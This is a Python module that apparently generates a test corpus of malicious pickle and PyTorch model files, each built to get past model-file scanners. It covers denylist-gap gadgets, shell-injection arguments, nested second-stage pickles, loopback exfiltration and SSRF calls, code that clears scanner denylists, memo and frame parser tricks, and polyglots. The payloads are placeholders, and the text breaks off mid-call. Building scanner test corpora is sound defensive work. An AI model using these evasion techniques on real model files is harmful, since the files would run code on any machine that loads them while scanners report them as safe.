"""Malicious samples: one or more per bypass class of the research catalogue (A1-A11, B1-B6, C1-C9, D1-D10, E2-E5).

Payloads are harmless (``echo bypass``, ``id``, 127.0.0.1) and nothing is ever loaded: pickles are raw
opcode bytes from ``pickles.py`` or ``pickle.dumps`` of ``Reduce`` objects (dumping runs nothing).
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import Any

from . import formats as F
from .build import Writer
from .pickles import (
    BININT,
    BUILD,
    BYTEARRAY8,
    CMD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    LIST,
    MARK,
    MEMOIZE,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    PY_SRC,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    TUPLE2,
    Raw,
    Reduce,
    big_unicode,
    binget,
    binput,
    binstring,
    by,
    call,
    enc,
    frame,
    gcall,
    glob,
    proto,
    reduce_pickle,
    s0,
    sg,
    stream,
    u,
)

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001

# The inner (second-stage) pickle used by nested-pickle gadgets.
INNER = reduce_pickle("os", "system", CMD, protocol=2)


def build(w: Writer) -> None:
    _controls(w)
    _a_gadgets(w)
    _b_names(w)
    _c_streams(w)
    _d_containers(w)
    _e_formats(w)
    _extra(w)
    _gate(w)


# ----------------------------------------------------------------------------------------------------------
# Controls: the textbook payloads every scanner should catch (also via pickle.dumps, every protocol)
# ----------------------------------------------------------------------------------------------------------


def _controls(w: Writer) -> None:
    for p in range(6):
        w.file(
            f"ctl_os_system_dumps_p{p}",
            "model.pkl",
            pickle.dumps(Reduce(os.system, (CMD,)), protocol=p),
            "control",
            f"pickle.dumps of a __reduce__ -> os.system (posix.system), protocol {p}",
        )
    import subprocess

    w.file(
        "ctl_subprocess_popen",
        "model.pkl",
        pickle.dumps(Reduce(subprocess.Popen, (["sh", "-c", CMD],)), protocol=4),
        "control",
        "subprocess.Popen via __reduce__",
    )
    w.file(
        "ctl_builtins_exec",
        "model.pkl",
        reduce_pickle("builtins", "exec", PY_SRC, protocol=2),
        "control",
        "builtins.exec of source, GLOBAL opcode",
    )
    w.file(
        "ctl_builtins_eval_p0",
        "model.pkl",
        glob("builtins", "eval") + b"(" + s0(PY_SRC) + b"tR.",
        "control",
        "protocol-0 eval",
    )
    w.file(
        "ctl_torch_zip_injected",
        "pytorch_model.bin",
        F.torch_zip_with_pickle(reduce_pickle("os", "system", CMD, protocol=2)),
        "control",
        "real torch.save zip whose archive/data.pkl is replaced by an os.system pickle",
    )


# ----------------------------------------------------------------------------------------------------------
# A: denylist gaps
# ----------------------------------------------------------------------------------------------------------

_CODE = compile(PY_SRC, "<bypass>", "eval")


def _code_fields(co: Any) -> tuple[Any, ...]:
    """CodeType constructor arguments of ``co`` (CPython 3.11 order)."""
    return (
        co.co_argcount,
        co.co_posonlyargcount,
        co.co_kwonlyargcount,
        co.co_nlocals,
        co.co_stacksize,
        co.co_flags,
        co.co_code,
        co.co_consts,
        co.co_names,
        co.co_varnames,
        co.co_filename,
        co.co_name,
        co.co_qualname,
        co.co_firstlineno,
        co.co_linetable,
        co.co_exceptiontable,
        co.co_freevars,
        co.co_cellvars,
    )


def _inst(module: str, name: str, *args: Any) -> Raw:
    """An instance made by calling a class (result stays on the stack as an argument)."""
    return Raw(gcall(module, name, *args))


# (sample name, technique, module, qualname, args, note). All written as PROTO 4 STACK_GLOBAL + REDUCE.
_GADGETS: list[tuple[str, str, str, str, tuple[Any, ...], str]] = [
    # A1
    (
        "a1_pip_main",
        "A1",
        "pip",
        "main",
        (["install", "--index-url", "http://127.0.0.1:9/simple", "--no-input", "-q", "bypass-pkg"],),
        "pip.main install (CVE-2025-1716)",
    ),
    (
        "a1_pip_internal_main",
        "A1",
        "pip._internal.cli.main",
        "main",
        (["install", "--index-url", "http://127.0.0.1:9/simple", "bypass-pkg"],),
        "pip internal entry point",
    ),
    # A2 torch-internal gadgets
    ("a2_torch_collect_env_run", "A2", "torch.utils.collect_env", "run", (CMD,), "collect_env.run(shell)"),
    (
        "a2_torch_inductor_compile_file",
        "A2",
        "torch._inductor.codecache",
        "compile_file",
        ("", "", ["sh", "-c", CMD]),
        "_inductor.codecache.compile_file cmd list",
    ),
    (
        "a2_torch_bottleneck_run_cprofile",
        "A2",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        (PY_SRC, {}),
        "bottleneck run_cprofile(exec source)",
    ),
    (
        "a2_torch_dynamo_guardbuilder_get",
        "A2",
        "torch._dynamo.guards",
        "GuardBuilder.get",
        ({}, PY_SRC),
        "_dynamo GuardBuilder.get eval (dotted qualname)",
    ),
    (
        "a2_torch_symbolic_shapes_eval_guards",
        "A2",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, PY_SRC, []),
        "ShapeEnv.evaluate_guards_expression eval",
    ),
    (
        "a2_torch_jit_execwrapper",
        "A2",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        (PY_SRC, {}, {}),
        "torch.jit execWrapper exec",
    ),
    (
        "a2_torch_config_module_load_config",
        "A2",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        ({}, INNER),
        "ConfigModule.load_config unpickles its bytes argument",
    ),
    (
        "a2_torch_datapipes_decoder",
        "A2",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ("pickle", INNER),
        "datapipes decoder basichandlers('pickle', bytes) -> pickle.loads",
    ),
    (
        "a2_torch_hub_load",
        "A2",
        "torch.hub",
        "load",
        ("127.0.0.1/bypass", "model"),
        "torch.hub.load runs hubconf",
    ),
    # A3 stdlib exec gadgets
    ("a3_cprofile_run", "A3", "cProfile", "run", (PY_SRC,), "cProfile.run exec"),
    ("a3_cprofile_runctx", "A3", "cProfile", "runctx", (PY_SRC, {}, {}), "cProfile.runctx exec"),
    ("a3_profile_runctx", "A3", "profile", "runctx", (PY_SRC, {}, {}), "profile.runctx exec"),
    (
        "a3_trace_runctx",
        "A3",
        "trace",
        "Trace.runctx",
        (_inst("trace", "Trace"), PY_SRC, {}, {}),
        "trace.Trace().runctx exec",
    ),
    ("a3_timeit_setup", "A3", "timeit", "timeit", ("pass", PY_SRC), "timeit.timeit setup= source"),
    ("a3_bdb_run", "A3", "bdb", "Bdb.run", (_inst("bdb", "Bdb"), PY_SRC), "bdb.Bdb().run exec"),
    ("a3_pdb_run", "A3", "pdb", "run", (PY_SRC,), "pdb.run exec"),
    ("a3_runpy_run_code", "A3", "runpy", "_run_code", (PY_SRC, {}), "runpy._run_code exec"),
    (
        "a3_code_interactive_runcode",
        "A3",
        "code",
        "InteractiveInterpreter.runcode",
        (_inst("code", "InteractiveInterpreter"), PY_SRC),
        "code.InteractiveInterpreter.runcode",
    ),
    (
        "a3_idlelib_executive_runcode",
        "A3",
        "idlelib.run",
        "Executive.runcode",
        (_inst("idlelib.run", "Executive", None), PY_SRC),
        "idlelib.run.Executive.runcode",
    ),
    (
        "a3_idlelib_debugobj_settext",
        "A3",
        "idlelib.debugobj",
        "ObjectTreeItem.SetText",
        (_inst("idlelib.debugobj", "ObjectTreeItem", "x", {}, None), PY_SRC),
        "idlelib ObjectTreeItem.SetText eval",
    ),
    (
        "a3_lib2to3_grammar_loads",
        "A3",
        "lib2to3.pgen2.grammar",
        "Grammar.loads",
        (_inst("lib2to3.pgen2.grammar", "Grammar"), INNER),
        "lib2to3 Grammar.loads -> pickle.loads",
    ),
    ("a3_doctest_debug_script", "A3", "doctest", "debug_script", (PY_SRC,), "doctest.debug_script exec"),
    (
        "a3_ensurepip_run_pip",
        "A3",
        "ensurepip",
        "_run_pip",
        (["install", "bypass-pkg"],),
        "ensurepip._run_pip",
    ),
    (
        "a3_numpy_runstring",
        "A3",
        "numpy.testing._private.utils",
        "runstring",
        (PY_SRC, {}),
        "numpy.testing runstring exec",
    ),
    (
        "a3_numpy_f2py_getlincoef",
        "A3",
        "numpy.f2py.crackfortran",
        "getlincoef",
        (PY_SRC, []),
        "numpy.f2py.crackfortran.getlincoef eval",
    ),
    (
        "a3_numpy_f2py_myeval",
        "A3",
        "numpy.f2py.crackfortran",
        "myeval",
        (PY_SRC,),
        "crackfortran.myeval eval",
    ),
    # A4 hidden subprocess
    ("a4_uuid_get_command_stdout", "A4", "uuid", "_get_command_stdout", ("id",), "uuid._get_command_stdout"),
    ("a4_osx_support_read_output", "A4", "_osx_support", "_read_output", (CMD,), "_osx_support._read_output"),
    (
        "a4_osx_support_find_build_tool",
        "A4",
        "_osx_support",
        "_find_build_tool",
        ("x; " + CMD,),
        "_osx_support._find_build_tool shell injection",
    ),
    (
        "a4_aix_support_read_cmd_output",
        "A4",
        "_aix_support",
        "_read_cmd_output",
        (CMD,),
        "_aix_support._read_cmd_output",
    ),
    ("a4_imaplib_imap4_stream", "A4", "imaplib", "IMAP4_stream", (CMD,), "imaplib.IMAP4_stream(command)"),
    (
        "a4_mailcap_findmatch",
        "A4",
        "mailcap",
        "findmatch",
        ({"x/y": [{"view": "true", "test": CMD}]}, "x/y"),
        "mailcap.findmatch runs the 'test' entry",
    ),
    ("a4_pty_spawn", "A4", "pty", "spawn", (["sh", "-c", CMD],), "pty.spawn"),
    (
        "a4_venv_create_prompt",
        "A4",
        "venv",
        "create",
        ("/tmp/wb-corpus-venv", False, False, False, False, "$(" + CMD + ")"),
        "venv.create prompt injection",
    ),
    (
        "a4_multiprocessing_spawnv_passfds",
        "A4",
        "multiprocessing.util",
        "spawnv_passfds",
        (b"/bin/sh", [b"/bin/sh", b"-c", CMD.encode()], ()),
        "multiprocessing.util.spawnv_passfds",
    ),
    ("a4_distutils_spawn", "A4", "distutils.spawn", "spawn", (["sh", "-c", CMD],), "distutils.spawn.spawn"),
    (
        "a4_test_support_script_helper",
        "A4",
        "test.support.script_helper",
        "assert_python_ok",
        ("-c", PY_SRC),
        "test.support.script_helper.assert_python_ok",
    ),
    (
        "a4_pyrepl_pipe_pager",
        "A4",
        "_pyrepl.pager",
        "pipe_pager",
        ("x", CMD),
        "_pyrepl.pager.pipe_pager (3.13+)",
    ),
    ("a4_pydoc_pipepager", "A4", "pydoc", "pipepager", ("x", CMD), "pydoc.pipepager(text, cmd)"),
    # A7 nested pickles (single call)
    ("a7_pickle_loads", "A7", "pickle", "loads", (INNER,), "pickle.loads(bytes) second stage"),
    ("a7_underscore_pickle_loads", "A7", "_pickle", "loads", (INNER,), "_pickle.loads second stage"),
    (
        "a7_torch_load_from_bytes",
        "A7",
        "torch.storage",
        "_load_from_bytes",
        (INNER,),
        "torch.storage._load_from_bytes -> torch.load(BytesIO)",
    ),
    (
        "a7_pandas_read_pickle_url",
        "A7",
        "pandas",
        "read_pickle",
        ("http://127.0.0.1:8000/stage2.pkl",),
        "pandas.read_pickle of a URL",
    ),
    (
        "a7_numpy_load_allow_pickle",
        "A7",
        "numpy",
        "load",
        ("/tmp/wb-stage2.npy", None, True),
        "numpy.load(allow_pickle=True) of a dropped file",
    ),
    ("a7_joblib_load", "A7", "joblib", "load", ("/tmp/wb-stage2.joblib",), "joblib.load of a dropped file"),
    # A8 file / network primitives
    ("a8_logging_filehandler", "A8", "logging", "FileHandler", ("/tmp/wb-bypass.log",), "creates a file"),
    ("a8_io_fileio", "A8", "_io", "FileIO", ("/etc/hosts",), "_io.FileIO read, bypasses builtins.open"),
    ("a8_urllib_urlopen", "A8", "urllib.request", "urlopen", ("http://127.0.0.1:8000/exfil",), "SSRF/exfil"),
    (
        "a8_ssl_get_server_certificate",
        "A8",
        "ssl",
        "get_server_certificate",
        (("127.0.0.1", 443),),
        "ssl.get_server_certificate (DNS-exfil shape)",
    ),
    (
        "a8_socket_create_connection",
        "A8",
        "socket",
        "create_connection",
        (("127.0.0.1", 4444),),
        "socket.create_connection",
    ),
    ("a8_shutil_rmtree", "A8", "shutil", "rmtree", ("/tmp/wb-corpus-nonexistent",), "shutil.rmtree"),
    (
        "a8_distutils_write_file",
        "A8",
        "distutils.file_util",
        "write_file",
        ("/tmp/wb-bypass.txt", ["x"]),
        "distutils.file_util.write_file",
    ),
    ("a8_webbrowser_open", "A8", "webbrowser", "open", ("http://127.0.0.1:8000/",), "webbrowser.open"),
    (
        "a8_http_client_connection",
        "A8",
        "http.client",
        "HTTPConnection",
        ("127.0.0.1", 8000),
        "HTTPConnection",
    ),
    ("a8_requests_get", "A8", "requests", "get", ("http://127.0.0.1:8000/",), "requests.get"),
    # A9 submodule of a wildcard-denied module
    (
        "a9_asyncio_unix_events",
        "A9",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, CMD, True, None, None, None, 0),
        "asyncio.unix_events._UnixSubprocessTransport._start (CVE-2025-10157)",
    ),
    (
        "a9_asyncio_subprocess_shell",
        "A9",
        "asyncio.subprocess",
        "create_subprocess_shell",
        (CMD,),
        "asyncio.subprocess.create_subprocess_shell",
    ),
    # A10 scanner tampering
    (
        "a10_modelscan_settings_clear",
        "A10",
        "modelscan.settings",
        "DEFAULT_SETTINGS.clear",
        (),
        "clears modelscan's settings (scanner tampering)",
    ),
    (
        "a10_fickling_deactivate",
        "A10",
        "fickling.hook",
        "deactivate_safe_ml_environment",
        (),
        "imports fickling hook internals to switch the runtime guard off",
    ),
]


def _a_gadgets(w: Writer) -> None:
    for name, tech, module, qual, args, note in _GADGETS:
        w.file(name, "model.pkl", reduce_pickle(module, qual, *args, protocol=4), tech, note)

    # Real-world shaped variants through pickle.dumps (functions that exist on this host).
    import cProfile
    import runpy
    import timeit

    w.file(
        "a3_cprofile_run_dumps_p2",
        "model.pkl",
        pickle.dumps(Reduce(cProfile.run, (PY_SRC,)), protocol=2),
        "A3",
        "cProfile.run via __reduce__, protocol 2 GLOBAL",
    )
    w.file(
        "a3_runpy_dumps_p0",
        "model.pkl",
        pickle.dumps(Reduce(runpy._run_code, (PY_SRC, {})), protocol=0),
        "A3",
        "runpy._run_code via __reduce__, protocol 0",
    )
    w.file(
        "a3_timeit_dumps_p3",
        "model.pkl",
        pickle.dumps(Reduce(timeit.timeit, ("pass", PY_SRC)), protocol=3),
        "A3",
        "timeit via __reduce__, protocol 3",
    )

    # A5 resolvers / trampolines
    w.file(
        "a5_pkgutil_resolve_name",
        "model.pkl",
        stream(call(gcall("pkgutil", "resolve_name", "os:system"), CMD)),
        "A5",
        "pkgutil.resolve_name('os:system')(cmd)",
    )
    w.file(
        "a5_pydoc_locate_methodcaller",
        "model.pkl",
        stream(call(gcall("operator", "methodcaller", "system", CMD), Raw(gcall("pydoc", "locate", "os")))),
        "A5",
        "operator.methodcaller('system', cmd)(pydoc.locate('os'))",
    )
    w.file(
        "a5_importlib_getattr_static",
        "model.pkl",
        stream(
            call(
                gcall("inspect", "getattr_static", Raw(gcall("importlib", "import_module", "os")), "system"),
                CMD,
            )
        ),
        "A5",
        "inspect.getattr_static(importlib.import_module('os'), 'system')(cmd)",
    )
    w.file(
        "a5_import_vars_getitem",
        "model.pkl",
        stream(
            call(
                gcall(
                    "_operator",
                    "getitem",
                    Raw(gcall("builtins", "vars", Raw(gcall("builtins", "__import__", "os")))),
                    "system",
                ),
                CMD,
            )
        ),
        "A5",
        "_operator.getitem(vars(__import__('os')), 'system')(cmd)",
    )
    w.file(
        "a5_functools_partial_os_system",
        "model.pkl",
        stream(call(gcall("functools", "partial", Raw(sg("os", "system")), CMD))),
        "A5",
        "functools.partial(os.system, cmd)()",
    )
    w.file(
        "a5_operator_attrgetter_torch_os",
        "model.pkl",
        stream(call(call(gcall("_operator", "attrgetter", "system"), Raw(sg("torch", "os"))), CMD)),
        "A5",
        "_operator.attrgetter('system')(torch.os)(cmd)",
    )
    w.file(
        "a5_importlib_getattr_join",
        "model.pkl",
        stream(
            call(
                gcall(
                    "builtins",
                    "getattr",
                    Raw(
                        gcall(
                            "importlib", "import_module", Raw(gcall("builtins", "str.join", "", ["o", "s"]))
                        )
                    ),
                    Raw(gcall("builtins", "str.join", "", ["sys", "tem"])),
                ),
                CMD,
            )
        ),
        "A5",
        "getattr(import_module(''.join(...)), ''.join(...))(cmd) (modelscan #331)",
    )

    # A6 code objects
    fields = _code_fields(_CODE)
    code_obj = Raw(gcall("types", "CodeType", *fields))
    w.file(
        "a6_types_codetype_functiontype",
        "model.pkl",
        stream(call(gcall("types", "FunctionType", code_obj, {}))),
        "A6",
        "types.FunctionType(types.CodeType(...), {})()",
    )
    w.file(
        "a6_marshal_loads_functiontype",
        "model.pkl",
        stream(
            call(gcall("types", "FunctionType", Raw(gcall("marshal", "loads", marshal.dumps(_CODE))), {}))
        ),
        "A6",
        "types.FunctionType(marshal.loads(code bytes), {})()",
    )
    cp_code = Raw(call(gcall("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), *fields))
    w.file(
        "a6_cloudpickle_make_function",
        "model.pkl",
        stream(
            call(
                gcall(
                    "cloudpickle.cloudpickle",
                    "_make_function",
                    cp_code,
                    {"__builtins__": None},
                    "f",
                    None,
                    None,
                )
            )
        ),
        "A6",
        "cloudpickle _builtin_type('CodeType') + _make_function",
    )

    # A7 nested pickles needing more than one call
    w.file(
        "a7_zlib_pickle_loads",
        "model.pkl",
        stream(gcall("pickle", "loads", Raw(gcall("zlib", "decompress", zlib.compress(INNER))))),
        "A7",
        "pickle.loads(zlib.decompress(...)) obfuscated second stage",
    )
    partial_torch_load = (
        gcall("functools", "partial", Raw(sg("torch", "load")))
        + enc((Raw(sg("torch", "load")), ("/tmp/wb-stage2.pt",), {"weights_only": False}, None))
        + BUILD
        + EMPTY_TUPLE
        + REDUCE
    )
    w.file(
        "a7_partial_torch_load",
        "model.pkl",
        stream(partial_torch_load),
        "A7",
        "functools.partial(torch.load, path, weights_only=False)() via partial __setstate__",
    )

    # A8 via OBJ
    w.file(
        "a8_smtplib_smtp_obj",
        "model.pkl",
        stream(MARK + sg("smtplib", "SMTP") + u("127.0.0.1") + OBJ),
        "A8",
        "smtplib.SMTP('127.0.0.1') via OBJ",
    )

    # A9 text GLOBAL of the submodule
    w.file(
        "a9_asyncio_unix_events_global",
        "model.pkl",
        stream(
            call(
                glob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                {},
                CMD,
                True,
                None,
                None,
                None,
                0,
            )
        ),
        "A9",
        "same gadget through a text GLOBAL under PROTO 4",
    )

    # A10 tampering followed by a payload
    w.file(
        "a10_picklescan_denylist_then_payload",
        "model.pkl",
        stream(gcall("picklescan.scanner", "_unsafe_globals.clear") + POP + gcall("pickle", "loads", INNER)),
        "A10",
        "clears picklescan's denylist, then a nested pickle",
    )


# ----------------------------------------------------------------------------------------------------------
# B: name-resolution tricks
# ----------------------------------------------------------------------------------------------------------


def _b_names(w: Writer) -> None:
    # B1 dotted names under PROTO 4
    w.file(
        "b1_builtins_eval_call",
        "model.pkl",
        stream(call(glob("builtins", "eval.__call__"), PY_SRC)),
        "B1",
        "GLOBAL 'builtins eval.__call__'",
    )
    w.file(
        "b1_torch_os_system",
        "model.pkl",
        stream(gcall("torch", "os.system", CMD)),
        "B1",
        "SG('torch', 'os.system')",
    )
    w.file(
        "b1_pathlib_os_system",
        "model.pkl",
        stream(gcall("pathlib", "os.system", CMD)),
        "B1",
        "SG('pathlib', 'os.system')",
    )
    w.file(
        "b1_torch_os_system_global",
        "model.pkl",
        stream(call(glob("torch", "os.system"), CMD)),
        "B1",
        "text GLOBAL 'torch os.system' under PROTO 4",
    )
    w.file(
        "b1_torch_serialization_pickle_loads",
        "model.pkl",
        stream(gcall("torch", "serialization.pickle.loads", INNER)),
        "B1",
        "attribute walk torch.serialization.pickle.loads from an allowlisted package",
    )

    # B2 computed STACK_GLOBAL operands
    ops = (
        gcall("_operator", "add", "o", "s")
        + binput(0)
        + POP
        + gcall("_operator", "add", "sys", "tem")
        + binput(1)
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b2_operator_add_stack_global",
        "model.pkl",
        stream(ops),
        "B2",
        "module/name built by _operator.add, fed to STACK_GLOBAL via the memo",
    )
    ops = (
        gcall("codecs", "decode", "bf", "rot_13")
        + gcall("codecs", "decode", "flfgrz", "rot_13")
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b2_codecs_rot13_stack_global",
        "model.pkl",
        stream(ops),
        "B2",
        "operands decoded from rot13 at load time, straight off the stack",
    )

    # B3 memo desync: PUT indices vs MEMOIZE's implicit len(memo)
    ops = (
        u("os")
        + binput(0)
        + u("system")
        + binput(1)
        + u("torch")
        + MEMOIZE
        + u("LongStorage")
        + MEMOIZE
        + POP
        + POP
        + POP
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b3_memo_put_vs_memoize",
        "model.pkl",
        stream(ops),
        "B3",
        "os/system stored with BINPUT 0/1, torch/LongStorage MEMOIZEd at 2/3; a MEMOIZE counter that ignores "
        "PUT sees torch.LongStorage at 0/1",
    )
    ops = (
        u("torch")
        + binput(0)
        + u("FloatStorage")
        + binput(1)
        + POP
        + POP
        + u("os")
        + binput(0)
        + u("system")
        + binput(1)
        + POP
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b3_memo_overwrite",
        "model.pkl",
        stream(ops),
        "B3",
        "memo slots 0/1 first hold torch/FloatStorage, then are overwritten with os/system before the GET",
    )

    # B4 BUILD-poisoned allowlisted object, then import through it
    ops = (
        glob("numpy", "prod")
        + NONE
        + EMPTY_DICT
        + u("a")
        + u("os")
        + SETITEM
        + TUPLE2
        + BUILD
        + POP
        + glob("numpy", "prod")
        + NONE
        + EMPTY_DICT
        + u("b")
        + u("system")
        + SETITEM
        + TUPLE2
        + BUILD
        + POP
        + glob("numpy", "prod.a")
        + binput(0)
        + POP
        + glob("numpy", "prod.b")
        + binput(1)
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b4_numpy_prod_build_poison",
        "model.pkl",
        stream(ops),
        "B4",
        "BUILD slot-state sets numpy.prod.a='os', .b='system'; GLOBAL numpy prod.a/prod.b feed STACK_GLOBAL",
    )
    ops = (
        sg("torch", "load")
        + NONE
        + EMPTY_DICT
        + u("m")
        + u("os")
        + SETITEM
        + u("n")
        + u("system")
        + SETITEM
        + TUPLE2
        + BUILD
        + POP
        + sg("torch", "load.m")
        + sg("torch", "load.n")
        + STACK_GLOBAL
        + enc((CMD,))
        + REDUCE
    )
    w.file(
        "b4_torch_load_build_poison",
        "model.pkl",
        stream(ops),
        "B4",
        "BUILD poisons attributes of torch.load, then SG('torch','load.m')/('load.n') supply os.system",
    )

    # B5 protocol-0 STRING operands for STACK_GLOBAL
    w.file(
        "b5_string_operands",
        "model.pkl",
        s0("os") + s0("system") + STACK_GLOBAL + s0(CMD) + TUPLE1 + REDUCE + STOP,
        "B5",
        "STRING 'os' STRING 'system' STACK_GLOBAL (GHSA-9gvj-pp9x-gcfr)",
    )
    w.file(
        "b5_binstring_operands",
        "model.pkl",
        proto(2)
        + binstring("os")
        + binstring("system")
        + STACK_GLOBAL
        + binstring(CMD)
        + TUPLE1
        + REDUCE
        + STOP,
        "B5",
        "SHORT_BINSTRING operands",
    )
    w.file(
        "b5_mixed_operands",
        "model.pkl",
        proto(4) + s0("subprocess") + u("check_output") + STACK_GLOBAL + enc((["id"],)) + REDUCE + STOP,
        "B5",
        "STRING module + SHORT_BINUNICODE name",
    )

    # B6 crash the scanner after the call already happened
    call_first = gcall("os", "system", CMD) + POP
    w.file(
        "b6_missing_memo_ref",
        "model.pkl",
        proto(4) + call_first + binget(3) + binget(4) + STACK_GLOBAL + NONE + STOP,
        "B6",
        "os.system runs, then BINGET of never-stored memo index",
    )
    w.file(
        "b6_int_operand",
        "model.pkl",
        proto(4) + call_first + BININT + struct.pack("<i", 42) + MEMOIZE + u("x") + STACK_GLOBAL + STOP,
        "B6",
        "os.system runs, then an int as STACK_GLOBAL module",
    )
    w.file(
        "b6_bytes_operand",
        "model.pkl",
        proto(4) + call_first + by(b"os") + by(b"system") + STACK_GLOBAL + STOP,
        "B6",
        "os.system runs, then bytes operands to STACK_GLOBAL",
    )
    w.file(
        "b6_bytearray_operand",
        "model.pkl",
        proto(5) + call_first + BYTEARRAY8 + struct.pack("<Q", 2) + b"os" + u("system") + STACK_GLOBAL + STOP,
        "B6",
        "os.system runs, then a bytearray operand (unhashable)",
    )
    w.file(
        "b6_hidden_gadget_then_keyerror",
        "model.pkl",
        proto(4)
        + gcall("pkgutil", "resolve_name", "os:system")
        + enc((CMD,))
        + REDUCE
        + POP
        + binget(9)
        + STOP,
        "B6",
        "resolver call, then invalid memo ref",
    )


# ----------------------------------------------------------------------------------------------------------
# C: parser / stream differentials
# ----------------------------------------------------------------------------------------------------------


def frame_divergence_pickle() -> bytes:
    """C3: CPython's C unpickler (file-like input without peek) reads past a FRAME, pickletools does not.

    After ``FRAME 2`` the C unpickler buffers exactly the 2 framed bytes (``B`` and the first byte of the
    BINBYTES length); the 4-byte length read straddles the frame end, so the buffered byte is dropped and the
    length is read from the next 4 bytes. pickletools reads a 0x107-byte literal that swallows the GLOBAL.
    """
    lead = proto(5) + big_unicode(128 * 1024) + POP  # push the stream past the unpickler's read buffer
    after_frame = b"B\x07" + b"\x01\x00\x00\x00"  # genops: len 0x00000107; C: loses 0x07, reads len 1
    c_junk = b"Z"  # the 1-byte literal the C unpickler reads
    buried = glob("os", "system") + b"(" + u(CMD) + b"tR" + POP  # the C unpickler's real path
    swallowed = c_junk + buried
    genops_len = 0x107
    pad_needed = genops_len - 1 - len(swallowed)  # genops' literal starts at after_frame[5]
    # the C unpickler still has its 1-byte literal on the stack; pad with a SHORT_BINBYTES then POP it
    pad = b"C" + bytes([pad_needed - 3]) + b"\0" * (pad_needed - 3) + POP
    assert len(pad) == pad_needed
    body = after_frame + swallowed + pad
    assert len(body) == 6 + genops_len - 1
    return lead + frame(2) + body + STOP


def _legacy_torch(main: bytes, *, magic: bytes | None = None) -> bytes:
    magic = magic if magic is not None else pickle.dumps(TORCH_MAGIC, protocol=2)
    sys_info = pickle.dumps(
        {
            "protocol_version": TORCH_PROTOCOL,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    return magic + pickle.dumps(TORCH_PROTOCOL, protocol=2) + sys_info + main + pickle.dumps([], protocol=2)


def _c_streams(w: Writer) -> None:
    # C1 nullifAI: payload first, then bytes that break the stream (no STOP)
    broken = proto(2) + glob("os", "system") + u(CMD) + TUPLE1 + REDUCE + b"\xff\xfe\x00garbage"
    w.file("c1_nullifai_broken", "model.pkl", broken, "C1", "payload then broken stream, no STOP")
    w.file(
        "c1_nullifai_torch_zip",
        "pytorch_model.bin",
        F.torch_zip_with_pickle(broken),
        "C1",
        "broken data.pkl inside a real torch zip",
    )

    # C2 trailing junk after STOP
    w.file(
        "c2_trailing_newlines",
        "model.pkl",
        reduce_pickle("os", "system", CMD, protocol=2) + b"\n\n\t\t",
        "C2",
        "payload + whitespace junk after STOP",
    )
    w.file(
        "c2_trailing_garbage",
        "model.pkl",
        reduce_pickle("subprocess", "getoutput", "id", protocol=4) + b"\x00\x01garbage" * 8,
        "C2",
        "payload + binary junk after STOP",
    )

    # C3 FRAME-boundary divergence
    fd = frame_divergence_pickle()
    w.file(
        "c3_frame_divergence",
        "model.pkl",
        fd,
        "C3",
        "128 KiB UNICODE, FRAME 2, BINBYTES swallowing GLOBAL; the C unpickler runs it when the stream has no "
        "peek() (BytesIO, network streams); pickletools sees one bytes literal",
    )
    w.file(
        "c3_frame_divergence_torch_zip",
        "model.pt",
        F.torch_zip_with_pickle(fd),
        "C3",
        "frame-divergence data.pkl in a torch zip (torch reads data.pkl through BytesIO)",
    )

    # C4 payload in a later pickle of a legacy stacked torch file
    w.file(
        "c4_legacy_torch_main_object",
        "model.pt",
        _legacy_torch(reduce_pickle("os", "system", CMD, protocol=2)),
        "C4",
        "legacy torch: magic, protocol, sys_info, MAIN(os.system), storage keys",
    )
    w.file(
        "c4_legacy_torch_storage_keys",
        "model.pt",
        _legacy_torch(pickle.dumps({}, protocol=2)) + reduce_pickle("os", "system", CMD, protocol=2),
        "C4",
        "payload in an extra pickle after the storage keys",
    )

    # C5 magic number computed by __reduce__
    w.file(
        "c5_magic_via_int",
        "model.pt",
        _legacy_torch(
            reduce_pickle("os", "system", CMD, protocol=2),
            magic=reduce_pickle("builtins", "int", hex(TORCH_MAGIC), 16, protocol=2),
        ),
        "C5",
        "magic = int('0x1950...', 16), payload in main object",
    )
    w.file(
        "c5_magic_via_eval",
        "model.pt",
        _legacy_torch(
            pickle.dumps({"w": [0.0]}, protocol=2),
            magic=reduce_pickle("builtins", "eval", hex(TORCH_MAGIC), protocol=2),
        ),
        "C5",
        "magic = eval('0x1950...') (GHSA-97f8-7cmv-76j2)",
    )

    # C6 pickle + zip polyglot
    benign_zip = F.zip_bytes([("data/weights.txt", b"0.0 0.1 0.2\n"), ("README", b"benign\n")])
    w.file(
        "c6_pickle_zip_polyglot_pkl",
        "model.pkl",
        reduce_pickle("os", "system", CMD, protocol=2) + benign_zip,
        "C6",
        "malicious pickle followed by a benign zip (EOCD at the end)",
    )
    w.file(
        "c6_pickle_zip_polyglot_joblib",
        "model.joblib",
        reduce_pickle("subprocess", "check_output", ["id"], protocol=4) + benign_zip,
        "C6",
        "same, .joblib extension",
    )

    # C7 call whose result is POPped
    w.file(
        "c7_obj_popped",
        "model.pkl",
